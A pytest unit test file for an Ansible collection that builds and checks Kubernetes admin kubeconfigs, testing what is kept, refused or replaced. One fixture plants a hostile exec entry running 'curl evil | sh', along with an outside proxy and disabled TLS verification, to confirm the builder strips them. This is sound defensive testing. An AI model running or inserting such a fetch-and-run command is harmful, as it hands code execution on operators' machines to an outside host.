# Copyright: (c) 2026, kubestead contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Whose cluster a kubeconfig is for, what is taken over from a control plane's, and when it is replaced."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import yaml

from ansible_collections.kubestead.cluster.plugins.plugin_utils.admin_kubeconfig import (
    AdminKubeconfigError,
    ClusterIdentity,
    build,
    flaw,
    other_cluster,
    read,
    replaces,
    unproven,
)
from tests.unit.authority import Authority, encoded

OURS, THEIRS = Authority(), Authority()
ENDPOINT = "192.0.2.100:8443"
CLUSTER = ClusterIdentity("production", ENDPOINT, ca_hashes=(OURS.hash,))
NOW = datetime.now(UTC)


def ours(**client: Any) -> Any:
    return read(build(read(OURS.admin_conf(**client)), CLUSTER))


def test_ca_certificate_key_and_endpoint_and_nothing_else() -> None:
    certificate, key = OURS.client()
    text = OURS.kubeconfig(
        {
            "client-certificate-data": encoded(certificate),
            "client-key-data": encoded(key),
            "exec": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"], "apiVersion": "v1"},
            "token": "t0ken",
        },
        server="https://203.0.113.66:443",
        **{"proxy-url": "http://203.0.113.66", "insecure-skip-tls-verify": True, "tls-server-name": "evil"},
    )
    built = yaml.safe_load(build(read(text), CLUSTER))
    assert built["clusters"] == [
        {
            "name": "production",
            "cluster": {
                "certificate-authority-data": yaml.safe_load(text)["clusters"][0]["cluster"][
                    "certificate-authority-data"
                ],
                "server": f"https://{ENDPOINT}",
            },
        }
    ]
    assert [(item["name"], item["user"].keys()) for item in built["users"]] == [
        ("production-admin", {"client-certificate-data", "client-key-data"})
    ]
    assert built["contexts"] == [
        {"name": "production", "context": {"cluster": "production", "user": "production-admin"}}
    ]
    assert built["current-context"] == "production"
    admin = read(yaml.safe_dump(built))
    assert (admin.certificate, admin.key, admin.ca, admin.plain) == (certificate, key, OURS.pem, True)
    assert key not in repr(admin)


def test_the_proxy_is_the_inventorys() -> None:
    cluster = ClusterIdentity("production", ENDPOINT, proxy="socks5://127.0.0.1:1080")
    assert (
        yaml.safe_load(build(read(OURS.admin_conf()), cluster))["clusters"][0]["cluster"]["proxy-url"] == cluster.proxy
    )


@pytest.mark.parametrize(
    "user",
    [
        {"exec": {"command": "id"}},
        {"token": "t0ken"},
        # These would be read from the operator's machine.
        {"client-certificate": "/etc/ssl/cert.pem", "client-key": "/etc/ssl/key.pem"},
        {"client-certificate-data": "Zm9v", "client-key-data": "Zm9v"},
    ],
)
def test_what_has_no_certificate_of_its_own_is_refused(user: dict[str, Any]) -> None:
    with pytest.raises(AdminKubeconfigError, match="no CA, client certificate and client key"):
        build(read(OURS.kubeconfig(user, server="https://192.0.2.11:6443")), CLUSTER)


@pytest.mark.parametrize("text", ["", "x", "a: [", "- 1", "clusters: {}", "current-context: k"])
def test_what_is_no_kubeconfig(text: str) -> None:
    with pytest.raises(AdminKubeconfigError, match="no kubeconfig with a current context"):
        read(text)


def test_an_error_quotes_nothing() -> None:
    with pytest.raises(AdminKubeconfigError) as error:
        read(OURS.kubeconfig({"client-key-data": "geheim!"}, server="https://192.0.2.11:6443"))
    assert "geheim" not in str(error.value)


class TestReplacement:
    def test_another_control_planes_certificate_is_as_good(self) -> None:
        assert flaw(ours(), CLUSTER, NOW) == ""
        assert not replaces(read(OURS.admin_conf()), ours(), CLUSTER, NOW)

    @pytest.mark.parametrize(
        ("old", "why"),
        [
            (OURS.admin_conf(server="https://192.0.2.99:8443"), "another endpoint"),
            (THEIRS.admin_conf(), "another CA"),
            (OURS.admin_conf(group="developers"), "no administrator"),
            (OURS.admin_conf(days=29), "ends soon"),
            (OURS.kubeconfig({"exec": {"command": "id"}}, server=f"https://{ENDPOINT}"), "another way to log in"),
            (OURS.admin_conf().replace("server:", "insecure-skip-tls-verify: true\n    server:"), "another way"),
            (OURS.admin_conf().replace("server:", "proxy-url: http://p\n    server:"), "another proxy"),
            (OURS.kubeconfig({"client-certificate-data": "Zm9v", "client-key-data": ""}, server=f"https://{ENDPOINT}"),
             "no usable client certificate"),
        ],
    )  # fmt: skip
    def test_what_does_not_serve_is_replaced(self, old: str, why: str) -> None:
        assert why in flaw(read(old), CLUSTER, NOW)
        assert replaces(read(OURS.admin_conf()), read(old), CLUSTER, NOW)

    def test_a_month_is_long_enough(self) -> None:
        end = OURS.admin_conf(days=31)
        assert flaw(read(end), CLUSTER, NOW) == ""
        assert flaw(read(end), CLUSTER, NOW + timedelta(days=2)) == "its certificate ends soon"

    def test_short_lives_make_no_drift(self) -> None:
        """Control planes renew theirs at different times, and this cluster's live for ten days only."""
        old = ours(days=6)
        assert not replaces(read(OURS.admin_conf(days=10)), old, CLUSTER, NOW)
        assert replaces(read(OURS.admin_conf(days=13)), old, CLUSTER, NOW)

    def test_an_ended_one_is_replaced_by_one_that_lives(self) -> None:
        old, later = ours(days=1), NOW + timedelta(days=3)
        assert replaces(read(OURS.admin_conf(days=4)), old, CLUSTER, later)
        assert not replaces(read(OURS.admin_conf(days=2)), old, CLUSTER, later)


class TestOverwriting:
    @pytest.mark.parametrize(
        "text",
        [
            OURS.admin_conf(),
            # The cluster before this one, at the same endpoint.
            THEIRS.admin_conf(),
            # Its endpoint has changed.
            OURS.admin_conf(server="https://192.0.2.11:6443"),
        ],
    )
    def test_the_inventorys_cluster(self, text: str) -> None:
        assert other_cluster(text, CLUSTER, "/site/k") is None

    @pytest.mark.parametrize(
        ("text", "found"),
        [
            (THEIRS.admin_conf(server="https://192.0.2.99:8443"), "another cluster, at https://192.0.2.99:8443"),
            (THEIRS.admin_conf(server="https://192.0.2.100:6443"), "another cluster"),
            ("my notes", "no kubeconfig"),
            ("", "no kubeconfig"),
        ],
    )
    def test_anything_else(self, text: str, found: str) -> None:
        problem = other_cluster(text, CLUSTER, "/site/k")
        assert problem
        assert problem.where == "cluster_kubeconfig: /site/k"
        assert found in problem.found
        assert "production at https://192.0.2.100:8443" in problem.expected
        assert "set cluster_kubeconfig" in problem.remedy

    def test_a_file_of_many_clusters(self) -> None:
        document = yaml.safe_load(OURS.admin_conf())
        document["clusters"].append({"name": "other", "cluster": {"server": "https://192.0.2.1"}})
        problem = other_cluster(yaml.safe_dump(document), CLUSTER, "~/.kube/config")
        assert problem
        assert "2 clusters" in problem.found


class TestProof:
    SERVER = f"https://{ENDPOINT}"
    UNREAD = ClusterIdentity("production", ENDPOINT)

    @pytest.mark.parametrize("cluster", [CLUSTER, UNREAD])
    @pytest.mark.parametrize("name", [None, "production", "kubernetes"])
    def test_it_is(self, cluster: ClusterIdentity, name: str | None) -> None:
        assert unproven(self.SERVER, OURS.hash, name, cluster, "k") is None

    def test_an_endpoint_with_its_scheme_or_in_other_letters(self) -> None:
        cluster = ClusterIdentity("production", "https://API.example.com:6443")
        assert unproven("https://api.example.com:6443", OURS.hash, None, cluster, "k") is None

    @pytest.mark.parametrize(
        ("server", "ca_hash", "name", "cluster", "where", "found"),
        [
            ("https://192.0.2.99:8443", OURS.hash, None, CLUSTER, "cluster_kubeconfig: k", "https://192.0.2.99:8443"),
            ("http://192.0.2.100:8443", OURS.hash, None, CLUSTER, "cluster_kubeconfig: k", "http://192.0.2.100:8443"),
            (SERVER, THEIRS.hash, None, CLUSTER, "cluster_kubeconfig: k", THEIRS.hash[:19]),
            (SERVER, "", None, UNREAD, "cluster_kubeconfig: k", "no CA"),
            (SERVER, OURS.hash, "staging", UNREAD, "cluster_name", "was made as staging"),
            (SERVER, OURS.hash, "staging", CLUSTER, "cluster_name", "was made as staging"),
        ],
    )
    def test_it_is_not(
        self, server: str, ca_hash: str, name: str | None, cluster: ClusterIdentity, where: str, found: str
    ) -> None:
        problem = unproven(server, ca_hash, name, cluster, "k")
        assert problem
        assert problem.where == where
        assert found in problem.found
        assert problem.remedy
